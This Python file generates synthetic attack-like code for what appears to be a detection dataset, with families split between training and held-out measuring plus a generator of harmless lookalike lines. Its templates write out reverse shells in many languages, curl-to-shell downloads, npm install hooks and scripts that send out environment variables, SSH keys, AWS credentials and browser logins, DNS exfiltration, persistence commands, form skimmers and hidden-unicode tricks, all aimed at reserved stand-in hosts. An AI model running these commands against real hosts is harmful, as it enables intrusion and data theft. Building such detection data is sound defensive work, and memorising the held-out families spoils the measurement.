"""
Made-up code in the manner of publicly documented attacks, harmless as it stands: hosts are reserved names, payloads are random bytes or a
greeting. By family, with random names, encodings and shapes; a family is wholly in training or wholly kept for measuring.
"""

import base64
import json
import zlib

LOWER, HEX, ALNUM = "abcdefghijklmnopqrstuvwxyz", "0123456789abcdef", "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def name(r):
    return r.choice([lambda: "".join(r.choice(LOWER) for _ in range(r.randrange(1, 9))), lambda: "_0x" + "".join(r.choice(HEX) for _ in range(5)), lambda: r.choice(["data", "buf", "cfg", "tmp", "run", "init"]) + str(r.randrange(99))])()


def host(r):
    return r.choice([lambda: ".".join(str(r.choice([192, 198, 203, 10]) if i == 0 else r.randrange(1, 255)) for i in range(4)), lambda: "".join(r.choice(LOWER) for _ in range(8)) + r.choice([".example", ".test", ".invalid"])])()


def port(r):
    return r.choice([4444, 1337, 9001, 8080, 443, r.randrange(1024, 65000)])


def payload(r):
    text = f"print('{''.join(r.choice(ALNUM) for _ in range(r.randrange(20, 160)))}')".encode()
    return r.choice([text, zlib.compress(text), r.randbytes(r.randrange(40, 200))])


def b64(r):
    return base64.b64encode(payload(r)).decode()


def python_decode(r):
    v, text = name(r), b64(r)
    return r.choice([
        [f"exec(__import__('base64').b64decode('{text}'))"], ["import base64", f"{v} = '{text}'", f"exec(base64.b64decode({v}))"], [f"exec(__import__('zlib').decompress(__import__('base64').b64decode(b'{text}')))"],
        ["import codecs", f"eval(compile(codecs.decode('{payload(r).hex()}', 'hex'), '<string>', 'exec'))"], ["import marshal, base64", f"exec(marshal.loads(base64.b64decode('{text}')))"], [f"eval(bytes.fromhex('{payload(r).hex()}').decode())"]])


def js_decode(r):
    v, text = name(r), b64(r)
    codes = ",".join(str(b) for b in payload(r)[:60])
    return r.choice([[f"eval(atob('{text}'))"], [f"const {v} = Buffer.from('{text}', 'base64').toString(); eval({v});"], [f"new Function(Buffer.from('{text}','base64').toString('utf8'))()"], [f"eval(String.fromCharCode({codes}))"], [f"(0,eval)(decodeURIComponent(escape(atob(\"{text}\"))))"],
                     [f"require('vm').runInThisContext(Buffer.from('{payload(r).hex()}','hex').toString())"]])


def shell_socket(r):
    h, p = host(r), port(r)
    return r.choice([[f"bash -i >& /dev/tcp/{h}/{p} 0>&1"], [f"exec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read line; do $line 2>&5 >&5; done"], [f"0<&196;exec 196<>/dev/tcp/{h}/{p}; sh <&196 >&196 2>&196"], [f"sh -c 'sh -i >& /dev/udp/{h}/{p} 0>&1' &"]])


def piped_download(r):
    h = host(r)
    return r.choice([[f"curl -s http://{h}/{name(r)}.sh | bash"], [f"wget -qO- https://{h}/{name(r)} | sh &"], [f"curl -fsSL http://{h}/{name(r)} -o /tmp/.{name(r)} && chmod +x /tmp/.{name(r)} && /tmp/.{name(r)}"], [f"python3 -c \"$(curl -s http://{h}/{name(r)})\""],
                     [f"powershell -nop -w hidden -enc {b64(r)}"], [f"powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://{h}/{name(r)}')\""]])


def npm_install(r):
    h = host(r)
    return r.choice([[f'"preinstall": "curl -d @/etc/passwd http://{h}/{name(r)}",'], [f'"postinstall": "node -e \\"require(\'http\').get(\'http://{h}/?\'+Buffer.from(JSON.stringify(process.env)).toString(\'hex\'))\\"",'],
                     ["const https = require('https'), os = require('os');", f"const {name(r)} = JSON.stringify({{ env: process.env, host: os.hostname(), home: os.homedir() }});", f"https.request({{ hostname: '{h}', path: '/{name(r)}', method: 'POST' }}).end(JSON.stringify(process.env));"],
                     [f"require('child_process').exec('env | base64 | curl -X POST -d @- https://{h}/{name(r)}');"]])


def hex_array(r):
    v = "_0x" + "".join(r.choice(HEX) for _ in range(4))
    words = ",".join("'" + "".join(f"\\x{b:02x}" for b in payload(r)[: r.randrange(4, 12)]) + "'" for _ in range(r.randrange(8, 25)))
    return [f"var {v}=[{words}];(function({v}1,{v}2){{var {v}3=function({v}4){{while(--{v}4){{{v}1['push']({v}1['shift']());}}}};{v}3(++{v}2);}}({v},0x{r.randrange(256):x}));", f"var {v}5=function({v}6,{v}7){{{v}6={v}6-0x0;return {v}[{v}6];}};window[{v}5('0x1')][{v}5('0x2')]({v}5('0x3'));"]


def hidden_unicode(r):
    bidi, zero = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068", "\u200b\u200c\u200d\u2060\ufeff"
    return r.choice([[f"if access != 'user{r.choice(bidi)} \u2066# check if admin\u2069 \u2066':"], [f"const {name(r)} = '{''.join(r.choice(zero) for _ in range(r.randrange(20, 90)))}';"], [f"/*{r.choice(bidi)} }} \u2066if ({name(r)})\u2069 \u2066 begin */"],
                     [f"eval([...'{''.join(chr(0xFE00 + b % 16) for b in payload(r)[:60])}'].map(c => String.fromCharCode(c.codePointAt(0) - 0xFE00)).join(''))"]])


# Kept for measuring.
def python_socket(r):
    h, p, v = host(r), port(r), name(r)
    return r.choice([["import socket,subprocess,os", f"{v}=socket.socket(socket.AF_INET,socket.SOCK_STREAM);{v}.connect(('{h}',{p}))", f"[os.dup2({v}.fileno(),i) for i in (0,1,2)];subprocess.call(['/bin/sh','-i'])"],
                     [f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'"]])


def other_shells(r):
    h, p = host(r), port(r)
    return r.choice([[f"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {h} {p} >/tmp/f"], [f"nc -e /bin/sh {h} {p}"], [f"ncat {h} {p} -e bash"], [f"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in({p},inet_aton(\"{h}\")))){{open(STDIN,\">&S\");exec(\"sh -i\");}};'"],
                     [f"php -r '$s=fsockopen(\"{h}\",{p});exec(\"sh <&3 >&3 2>&3\");'"], [f"ruby -rsocket -e 'f=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"sh -i <&%d >&%d 2>&%d\",f,f,f)'"], [f"socat exec:'bash -li',pty,stderr,setsid tcp:{h}:{p}"],
                     [f"(function(){{var n=require('net'),c=require('child_process').spawn('/bin/sh',[]);var s=new n.Socket();s.connect({p},'{h}',function(){{s.pipe(c.stdin);c.stdout.pipe(s);}});}})();"]])


def setup_exfiltration(r):
    h, v = host(r), name(r)
    return r.choice([["import os, requests", f"requests.post('https://{h}/{name(r)}', json=dict(os.environ))"], [f"{v} = open(os.path.expanduser('~/.aws/credentials')).read()", f"urllib.request.urlopen('http://{h}/', data={v}.encode())"],
                     ["class PostInstall(install):", "    def run(self):", f"        subprocess.Popen(['curl', '-F', 'f=@/root/.ssh/id_rsa', 'http://{h}'])"], [f"socket.gethostbyname(socket.gethostname() + '.' + getpass.getuser() + '.{h}')"]])


def character_sums(r):
    text = payload(r)[:50]
    return r.choice([[f"exec(''.join(chr(c ^ {r.randrange(1, 255)}) for c in {list(text)}))"], [f"exec(''.join(map(chr, [{','.join(str(b + 3) + '-3' for b in text)}])))"], [f"getattr(__import__('builtins'), 'ex' + 'ec')(''.join(reversed('{base64.b64encode(text).decode()}')))"],
                     [f"(lambda {name(r)}: {name(r)}(''.join([chr(int(x, 8)) for x in '{' '.join(oct(b)[2:] for b in text)}'.split()])))(eval)"], [f"[]['filter']['constructor']({'+'.join(repr(chr(97 + b % 26)) for b in text)})()"]])


def name_service(r):
    h = host(r)
    return r.choice([[f"nslookup $(whoami | base64).{h}"], [f"for x in $(env | xxd -p -c 30); do dig +short $x.{h}; done"], [f"require('dns').lookup(Buffer.from(require('os').hostname()).toString('hex') + '.{h}', () => {{}});"], [f"ping -c 1 `hostname`.`id -un`.{h}"]])


def persistence(r):
    h = host(r)
    return r.choice([[f"(crontab -l; echo '*/5 * * * * curl http://{h}/{name(r)} | sh') | crontab -"], [f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{''.join(r.choice(ALNUM) for _ in range(43))} x' >> ~/.ssh/authorized_keys"],
                     [f"echo 'nohup /tmp/.{name(r)} &' >> ~/.bashrc"], [f"fs.appendFileSync(os.homedir() + '/.bashrc', 'curl http://{h}|sh &');"], [f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name(r)} /d \"powershell -w hidden {name(r)}.ps1\""]])


def stealer(r):
    h = host(r)
    return r.choice([[f"shutil.copy(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), '{name(r)}.db')", f"requests.post('https://{h}/api/webhooks/{r.randrange(10**17)}/x', files={{'f': open('{name(r)}.db', 'rb')}})"],
                     [f"for p in glob.glob(os.path.expanduser('~/.config/**/wallet.dat')): urllib.request.urlopen('http://{h}', open(p, 'rb').read())"], [f"window.ethereum.request = new Proxy(window.ethereum.request, {{ apply(t, a, b) {{ b[0].params[0].to = '0x{''.join(r.choice(HEX) for _ in range(40))}'; return t(...b); }} }});"],
                     [f"document.addEventListener('submit', e => fetch('https://{h}/c?' + new URLSearchParams(new FormData(e.target)) + document.cookie));"]])


TRAIN = {f.__name__: f for f in (python_decode, js_decode, shell_socket, piped_download, npm_install, hex_array, hidden_unicode)}
TEST = {f.__name__: f for f in (python_socket, other_shells, setup_exfiltration, character_sums, name_service, persistence, stealer)}


def benign(r):
    """Harmless lines that have the words of attacks: build scripts, installers, decoders, tests of them."""
    v = name(r)
    return r.choice([
        f"curl -fsSL https://get.{v}.example/install.sh -o install.sh", f"wget -q https://{host(r)}/{v}.tar.gz && tar xzf {v}.tar.gz", f"{v} = base64.b64decode(response['content'])", "exec(compile(open(path).read(), path, 'exec'), namespace)", "const out = execSync('git rev-parse HEAD').toString().trim();",
        '"postinstall": "node-gyp rebuild",', '"prepare": "husky install",', '"install": "node-gyp-build",', f"const {v} = Buffer.from(token, 'base64').toString('utf8');", f"src=\"data:image/png;base64,{b64(r)}\"", f"integrity sha512-{base64.b64encode(r.randbytes(64)).decode()}", f"{v} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
        f"{v}.connect(('{host(r)}', {port(r)}))", "subprocess.run(['make', 'install'], check=True)", "return eval(expression, {'__builtins__': {}}, scope)", f"nc -z {host(r)} {port(r)}", "env | sort", "os.environ.get('HOME', os.path.expanduser('~'))", "const { spawn } = require('child_process');",
        f"dig +short {host(r)}", "crontab -l | grep backup", "chmod +x ./gradlew && ./gradlew build", f"EXPECTED = bytes.fromhex('{payload(r).hex()}')", f"const table = [{','.join(hex(b) for b in payload(r)[:40])}];", "String.fromCharCode(65 + index)", f"assert decode('{b64(r)}') == expected", f"mkfifo \"$pipe\"; tee log < \"$pipe\" &",
        json.dumps({"id": v, "data": b64(r)}), f"requests.post('https://{host(r)}/v1/items', json=payload)", "document.addEventListener('submit', handleSubmit);", f"ping -c 1 {host(r)}", "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@host", "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", "name = 'e\u0301cole \u200d'"])
